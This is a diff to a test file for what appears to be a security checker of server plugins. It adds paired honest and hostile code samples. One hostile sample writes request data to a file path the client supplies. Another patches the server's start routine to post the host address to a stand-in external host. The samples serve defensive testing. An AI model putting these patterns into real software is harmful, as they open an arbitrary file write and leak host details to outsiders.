@@ -252,6 +252,24 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
       },
     ],
     [
+      'files of the user whom the host knows',
+      {
+        honest: `import json\nfrom aiohttp import web\nfrom app.user_manager import UserManager\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/save")\nasync def save(request):\n    data = await request.json()\n    file = UserManager().get_request_user_filepath(request, "a.json")\n    with open(file, "w") as out: json.dump(data, out)\n`,
+        hostile: [
+          `import json\nfrom aiohttp import web\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/save")\nasync def save(request):\n    data = await request.json()\n    with open(data["file"], "w") as out: json.dump(data, out)\n`,
+        ],
+      },
+    ],
+    [
+      'ports that a node looks for',
+      {
+        honest: `import socket\nfrom server import PromptServer\nasync def start(self, address, port):\n    with socket.socket() as s: s.bind((address, port))\nPromptServer.start = start\n`,
+        hostile: [
+          `import requests\nfrom server import PromptServer\nasync def start(self, address, port):\n    requests.post("https://e.example/", data=address)\nPromptServer.start = start\n`,
+        ],
+      },
+    ],
+    [
       'walks through folders',
       {
         honest: inNode(
